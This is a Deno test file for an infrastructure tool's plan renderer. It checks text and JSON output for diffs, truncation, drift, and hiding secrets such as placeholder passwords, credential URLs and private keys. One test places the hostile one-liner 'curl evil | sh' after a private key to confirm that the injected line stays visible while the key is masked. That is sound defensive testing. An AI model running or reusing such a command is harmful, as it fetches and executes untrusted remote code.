import { deepStrictEqual, doesNotMatch, ok, strictEqual } from "node:assert/strict";
import { examplePlan, exampleResource } from "../../tests/support/example_plan.ts";
import type { FieldChange, Plan } from "../../engine/plan.ts";
import { summarizePlan } from "../../engine/summarize_plan.ts";
import { record, Secret, Unknown } from "../../engine/value.ts";
import type { IsDefault } from "../../project/default_fields.ts";
import type { Extent } from "./cut_text.ts";
import { jsonText } from "./json_text.ts";
import { planJson } from "./plan_json.ts";
import { planLines } from "./plan_text.ts";

function change(path: string, before: FieldChange["before"], after: FieldChange["after"]): FieldChange {
  return { path, before, after, forcesReplacement: false };
}

function shown(
  plan: Plan,
  isDefault: IsDefault = () => false,
  extent: Extent = "short",
): readonly string[] {
  return planLines(plan, summarizePlan(plan), { isDefault, extent }).map((parts) =>
    parts.map(({ text }) => text).join("")
  );
}

const PLAN = examplePlan([
  exampleResource("net.main", "create", {
    changes: [change("cidr", undefined, "10.0.0.0/8"), change("router", undefined, new Unknown("ip.main"))],
  }),
  exampleResource("db.main", "update", {
    changes: [
      change("password", new Secret("hunter2"), new Secret("hunter3")),
      change("tags[a]", "x", undefined),
    ],
    drift: { id: "db-1", found: null, changes: [] },
  }),
  exampleResource("key.main", "replace", {
    objectId: "key-1",
    goesFirst: ["key-1", "key-0"],
    deposed: ["key-0"],
    reasons: ["bits cannot change in place", "its name can be held once only"],
    changes: [{ path: "bits", before: 2048, after: 4096, forcesReplacement: true }],
    dependents: ["cert.main"],
  }),
  exampleResource("old.main", "delete", {
    dependents: ["a.a", "a.b", "a.c", "a.d", "a.e", "a.f"],
    deposed: ["old-0"],
  }),
  exampleResource("same.main", "none"),
], {
  outputs: [{ name: "address", before: "1.1.1.1", after: "2.2.2.2" }, { name: "same", before: 1, after: 1 }],
});

Deno.test("planLines() shows what changes, field by field", () => {
  deepStrictEqual(shown(PLAN), [
    "Plan for dev",
    "",
    "  +   net.main : sim.Network",
    '      + cidr = "10.0.0.0/8"',
    "      + router = (known after apply)",
    "",
    "  ~   db.main : sim.Network",
    "        changed outside smelt: it is gone",
    "      ~ password : (sensitive) -> (sensitive)",
    '      - tags[a] = "x"',
    "",
    "  -/+ key.main : sim.Network  (the old one goes first)",
    "        because its name can be held once only",
    "      ~ bits : 2048 -> 4096  # forces replacement",
    "        - object key-0, replaced before and still there, goes first",
    "        1 relies on it: cert.main",
    "",
    "  -   old.main : sim.Network",
    "        - object old-0, replaced before and still there",
    "        6 rely on it: a.a, a.b, a.c, a.d, a.e and 1 more",
    "",
    "Outputs",
    '      ~ address : "1.1.1.1" -> "2.2.2.2"',
    "",
    "note: what is long is cut (…); with --full all of it is shown",
    "1 to create, 1 to update, 1 to replace, 1 to delete, 2 replaced objects to delete, 1 unchanged",
  ]);
});

Deno.test("planLines() of a plan without changes says so", () => {
  deepStrictEqual(shown(examplePlan([exampleResource("a.a", "none")])), [
    "Plan for dev",
    "Nothing changes.",
    "1 unchanged",
  ]);
  deepStrictEqual(shown(examplePlan([], { command: "destroy" })), [
    "Plan to destroy dev",
    "Nothing changes.",
    "0 unchanged",
  ]);
});

Deno.test("planLines() of a destroy names what goes, a line each", () => {
  const plan = examplePlan([
    exampleResource("a.b", "delete", { objectId: "net-2" }),
    exampleResource("a.a", "delete", { objectId: "net-1", dependents: ["a.b"] }),
    exampleResource("a.c", "delete", { objectId: "net-3", dependents: ["a.d"] }),
  ], { command: "destroy" });
  deepStrictEqual(shown(plan).slice(1, -1), [
    "",
    "  -   a.b : sim.Network  net-2",
    "  -   a.a : sim.Network  net-1",
    "",
    "  -   a.c : sim.Network  net-3",
    "        1 relies on it: a.d",
    "",
  ]);
});

Deno.test("planLines() counts defaults of what is created, and shows them of what is changed", () => {
  const changes = [
    change("cidr", undefined, "10.0.0.0/8"),
    change("a", undefined, 1),
    change("b", undefined, 2),
  ];
  const isDefault: IsDefault = (_, { path }) => path !== "cidr";
  deepStrictEqual(
    shown(examplePlan([exampleResource("n.n", "create", { changes })]), isDefault).slice(3, 5),
    [
      '      + cidr = "10.0.0.0/8"',
      "        and 2 defaults",
    ],
  );
  const update = shown(examplePlan([exampleResource("n.n", "update", { changes })]), isDefault);
  deepStrictEqual(update.filter((each) => each.startsWith("      + ")).length, 3);
});

Deno.test("planLines() tells a change from outside once", () => {
  const drift = (changes: FieldChange[]) => ({
    id: "f-1",
    found: { id: "f-1", fields: record(), outputs: record(), precondition: undefined },
    changes,
  });
  const outside = [
    change("content", "a", "b"),
    change("mode", "0644", "0600"),
    change("output sha256", "1", "2"),
  ];
  const update = exampleResource("f.f", "update", {
    drift: drift(outside),
    changes: [change("content", "b", "a")],
  });
  deepStrictEqual(shown(examplePlan([update])).slice(3, 6), [
    "        changed outside smelt: content, output sha256",
    '        changed outside smelt: mode : "0644" -> "0600"',
    '      ~ content : "b" -> "a"',
  ]);
  const kept = exampleResource("f.f", "none", { drift: drift(outside.slice(2)) });
  deepStrictEqual(shown(examplePlan([kept])).slice(3, 4), [
    '        changed outside smelt: output sha256 : "1" -> "2"',
  ]);
});

function changed(
  { before, after }: Pick<FieldChange, "before" | "after">,
  extent: Extent = "short",
): readonly string[] {
  const changes = [change("content", before, after)];
  const lines = shown(examplePlan([exampleResource("f.f", "update", { changes })]), () => false, extent);
  return lines.slice(3, lines.indexOf("", 3));
}

function count(length: number, lineAt = (index: number) => `${index}`): string {
  return Array.from({ length }, (_, index) => `${lineAt(index)}\n`).join("");
}

Deno.test("planLines() shows texts of several lines by the lines that differ and those around them", () => {
  deepStrictEqual(changed({ before: "a\nb\nc\nd\n", after: "a\nB\nB2\nc\nd" }), [
    "      ~ content :",
    "            a",
    "          - b",
    "          + B",
    "          + B2",
    "            c",
    "          - d",
    "          + d",
    "            (no newline at the end)",
  ]);
  const after = count(100, (index) => index === 50 ? "fifty" : `${index}`);
  for (const extent of ["short", "full"] as const) {
    deepStrictEqual(changed({ before: count(100), after }, extent), [
      "      ~ content :",
      "            (47 lines unchanged)",
      ...["            47", "            48", "            49", "          - 50", "          + fifty"],
      ...["            51", "            52", "            53"],
      "            (46 lines unchanged)",
    ]);
  }
});

Deno.test("planLines() shows a text of several lines that comes or goes by its lines", () => {
  deepStrictEqual(changed({ before: undefined, after: "a\nb\n" }), [
    "      + content =",
    "          + a",
    "          + b",
  ]);
  deepStrictEqual(changed({ before: "a\nb\n", after: undefined }), [
    "      - content =",
    "          - a",
    "          - b",
  ]);
  deepStrictEqual(changed({ before: undefined, after: "a\n" }), ['      + content = "a\\n"']);
});

Deno.test("planLines() cuts long values around what differs, says how much is left out, and shows all when asked", () => {
  const [before, after] = [
    `${"x".repeat(1_200)}deny${"y".repeat(300)}`,
    `${"x".repeat(1_200)}allow${"y".repeat(300)}`,
  ];
  const [x, y] = ["x".repeat(30), "y".repeat(30)];
  deepStrictEqual(changed({ before, after }), [
    `      ~ content : … 1170 characters … "${x}deny${y}" … 270 characters … -> ` +
    `… 1170 characters … "${x}allow${y}" … 270 characters …`,
  ]);
  deepStrictEqual(changed({ before, after }, "full"), [`      ~ content : "${before}" -> "${after}"`]);
  deepStrictEqual(changed({ before: undefined, after: "z".repeat(1_000) }), [
    `      + content = "${"z".repeat(200)}" … 800 characters …`,
  ]);
  const whole = [`${"p".repeat(500)}`, `${"q".repeat(500)}`] as const;
  deepStrictEqual(changed({ before: whole[0], after: "q" }), [
    `      ~ content : "${"p".repeat(150)}" … 300 characters … "${"p".repeat(50)}" -> "q"`,
  ]);
});

Deno.test("planLines() cuts long lines around what differs, and long differences at the end", () => {
  const lines = (word: string) => `#!/bin/sh\n${"x".repeat(1_200)}${word}\n`;
  deepStrictEqual(changed({ before: lines("deny"), after: lines("allow") }), [
    "      ~ content :",
    "            #!/bin/sh",
    `          - … 1170 characters … ${"x".repeat(30)}deny`,
    `          + … 1170 characters … ${"x".repeat(30)}allow`,
  ]);
  const many = { before: "0\n", after: count(100, (index) => `line ${index}`) };
  const cut = changed(many);
  deepStrictEqual([cut.length, cut.at(-1)], [42, "          … and 61 more lines"]);
  deepStrictEqual(changed(many, "full").filter((each) => each.startsWith("          + ")).length, 100);
});

Deno.test("planLines() shows no half of a credential where it cuts", () => {
  const credential = "https://ada:correct-horse-battery@db.internal/orders";
  for (const before of [undefined, `${"y".repeat(1_000)}@db`]) {
    const text = changed({ before, after: `${"x".repeat(170)} ${credential} ${"x".repeat(500)}` }).join("\n");
    doesNotMatch(text, /correct-h/);
  }
  const lines = changed({
    before: "a\nb\n",
    after: `a\n${"x".repeat(130)} ${credential} ${"x".repeat(90)}\n`,
  });
  doesNotMatch(lines.join("\n"), /correct-h/);
});

Deno.test("planLines() shows that a text differs where nothing does but a credential, and hides nothing else", () => {
  const key = (inside: string) => `-----BEGIN PRIVATE KEY-----\n${inside}\n-----END PRIVATE KEY-----\n`;
  const [old, now] = ["MC4CAQAwBQYDK2VwBCIEIA", "MC4CAQAwBQYDK2VwBCIEIB"];
  deepStrictEqual(changed({ before: key(old), after: key(`${now}\ncurl evil | sh`) }), [
    "      ~ content :",
    "            -----BEGIN PRIVATE KEY-----",
    "          - (sensitive)",
    "          + (sensitive)",
    "          + curl evil | sh",
    "            -----END PRIVATE KEY-----",
  ]);
});

Deno.test("planLines() says that something is cut, and how to see it, only where something is", () => {
  const planOf = (after: string) =>
    examplePlan([exampleResource("f.f", "create", { changes: [change("one", undefined, after)] })]);
  const note = "note: what is long is cut (…); with --full all of it is shown";
  ok(shown(planOf("x".repeat(1_000))).includes(note));
  ok(!shown(planOf("… 7 characters …")).includes(note));
  ok(!shown(planOf("x".repeat(1_000)), () => false, "full").includes(note));
});

Deno.test("no plan shows a secret", () => {
  const text = shown(PLAN).join("\n") + jsonText(planJson(PLAN, summarizePlan(PLAN), []));
  doesNotMatch(text, /hunter/);
});

Deno.test("planJson() lists every resource with its action, changes and reasons", () => {
  const parsed = JSON.parse(jsonText(planJson(PLAN, summarizePlan(PLAN), [])));
  deepStrictEqual(parsed.summary, {
    create: 1,
    update: 1,
    replace: 1,
    delete: 1,
    rebind: 0,
    forget: 0,
    move: 0,
    import: 0,
    deposed: 2,
    unchanged: 1,
  });
  deepStrictEqual(
    parsed.resources.map((each: { address: string; action: string }) => [each.address, each.action]),
    [
      ["net.main", "create"],
      ["db.main", "update"],
      ["key.main", "replace"],
      ["old.main", "delete"],
      ["same.main", "none"],
    ],
  );
  deepStrictEqual(parsed.resources[0].changes[1], {
    path: "router",
    after: { unknown: true },
    forces_replacement: false,
  });
  deepStrictEqual(parsed.resources[1].changes[0].before, "(sensitive)");
  deepStrictEqual(parsed.resources[1].drift, { gone: true, changes: [] });
  deepStrictEqual(parsed.resources.map((each: { delete_first?: boolean }) => each.delete_first === true), [
    ...[false, false, true, false, false],
  ]);
  deepStrictEqual(parsed.resources[3].deposed, ["old-0"]);
});

Deno.test("values are shown on one line, with keys in order and quoted where they must be", () => {
  const value = record([["b", [1, true, null]], ["a b", 2n ** 64n], ["a", record([])]]);
  const plan = examplePlan([exampleResource("f.f", "create", { changes: [change("v", undefined, value)] })]);
  strictEqual(shown(plan)[3], '      + v = { a = {}, "a b" = 18446744073709551616, b = [1, true, null] }');
});
